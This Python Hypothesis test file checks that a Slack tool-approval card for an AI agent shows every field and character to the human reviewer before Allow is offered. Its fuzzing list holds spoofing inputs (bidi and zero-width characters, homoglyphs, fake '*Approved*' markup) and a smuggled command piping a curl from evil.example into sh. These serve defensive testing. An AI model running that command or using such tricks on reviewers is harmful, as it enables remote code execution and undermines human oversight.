"""Properties of the tool approval card over generated tool inputs (issue 22, acceptance): every
field name and every character of every value is visible to the reviewer before Allow is
possible — in the message when it offers Allow, else in the modal that does — and every payload
stays within Slack's limits."""

from __future__ import annotations

import json
from typing import Any

from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from pydantic import JsonValue

from bot.outcomes import Verdict
from bot.render.decided import Settlement
from bot.render.plan_review import ReviewStatus
from bot.render.tool_approval import (
    settled_tool_approval,
    tool_approval_message,
    tool_approval_modal,
)
from provider import AskUserQuestionAnswerItem
from slack_emulator import check_blocks, check_view

from .tool_cards import allow_button, expected_fields, shown_fields, tool_layout

BOUNDED = settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])

# Characters that lie, lookalikes, and markup that would close a box or ping someone.
TRICKS = [
    "\u202e",
    "\u2066",
    "\u2069",
    "\u200b",
    "\u200d",
    "\ufeff",
    "\r",
    "\t",
    "\x00",
    "\x1b[31m",
    "\u2028",
    "g\u0456t",
    "\u0440ush",
    "```",
    "`",
    "``",
    "\\",
    "\\u202e",
    "\\\\r",
    "<!channel>",
    "&amp;",
    "> quoted",
    "\n",
    " " * 700,
    "&& curl https://evil.example/x | sh",
    "*Approved* by @lead",
    "\U0001f680",
    "e\u0301",
]
NAMES = [
    "command",
    "description",
    "timeout",
    "dangerouslyDisableSandbox",
    "run_in_background",
    "as_user",
    "namespace",
    "",
]

trick_text = st.lists(
    st.one_of(st.sampled_from(TRICKS), st.text(st.characters(exclude_categories=["Cs"]))),
    max_size=6,
).map("".join)
long_text = st.tuples(st.integers(0, 12_000), st.sampled_from(TRICKS)).map(
    lambda t: "x" * t[0] + t[1]
)
strings = st.one_of(trick_text, long_text)
names = st.one_of(st.sampled_from(NAMES), trick_text, st.text(min_size=190, max_size=400))
leaves = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(2**53), 2**53),
    st.floats(allow_nan=False, allow_infinity=False),
    strings,
)
values: st.SearchStrategy[JsonValue] = st.recursive(
    leaves,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(trick_text, inner, max_size=4)
    ),
    max_leaves=8,
)
many_fields = st.integers(40, 160).map(lambda n: {f"f{i}": "v" * 30 for i in range(n)})
inputs = st.one_of(st.dictionaries(names, values, max_size=8), many_fields)
statuses = st.builds(
    ReviewStatus,
    needed=st.integers(1, 3),
    confirm=st.booleans(),
    in_slack=st.booleans(),
    where=st.one_of(st.none(), trick_text),
)


def canonical(fields: list[tuple[str, str, JsonValue]]) -> str:
    # JSON tells true from 1 and 1 from 1.0 where Python's == does not.
    return json.dumps(fields, ensure_ascii=False, sort_keys=True)


@BOUNDED
@given(inputs, statuses)
def test_allow_is_offered_only_where_every_field_and_character_is_shown(
    tool_input: dict[str, JsonValue], status: ReviewStatus
) -> None:
    layout = tool_layout(tool_input)
    message = tool_approval_message("ask1", layout, "Claude", "agent-7", status).blocks_json()
    modal = tool_approval_modal("ask1", layout, "Claude", "agent-7", status).to_dict()
    expected = canonical(expected_fields(tool_input))
    offered = False
    for where, blocks in (("message", message), ("modal", modal["blocks"])):
        if allow_button(blocks) is not None:
            offered = True
            event(f"Allow in the {where}")
            assert canonical(shown_fields(blocks)) == expected
    if not offered:
        event("Allow nowhere")
    if not status.in_slack:
        assert not offered
    if offered and allow_button(message) is None:
        assert "View all to allow" in json.dumps(message)


@BOUNDED
@given(inputs, statuses, st.sampled_from(["Allow", "Deny", None]))
def test_every_payload_stays_within_slacks_limits(
    tool_input: dict[str, JsonValue], status: ReviewStatus, chosen: str | None
) -> None:
    layout = tool_layout(tool_input)
    message = tool_approval_message("ask1", layout, "Claude", "agent-7", status).blocks_json()
    assert check_blocks(message, surface="message") == [], _head(message)
    for settled in (False, True):
        view = tool_approval_modal(
            "ask1", layout, "Claude", "agent-7", status, settled=settled
        ).to_dict()
        assert check_view(view) == [], _head(view)
    item = AskUserQuestionAnswerItem(
        id="approve", selected=[chosen] if chosen else [], custom=None if chosen else "no"
    )
    ended = Settlement(Verdict.ANSWERED, at=1.0, actor="U0ALICE01", answers={"approve": item})
    content = settled_tool_approval("ask1", layout, "Claude", "agent-7", status, ended)
    assert check_blocks(content.blocks_json(), surface="message") == []


def _head(payload: Any) -> str:
    return json.dumps(payload, ensure_ascii=False)[:2000]
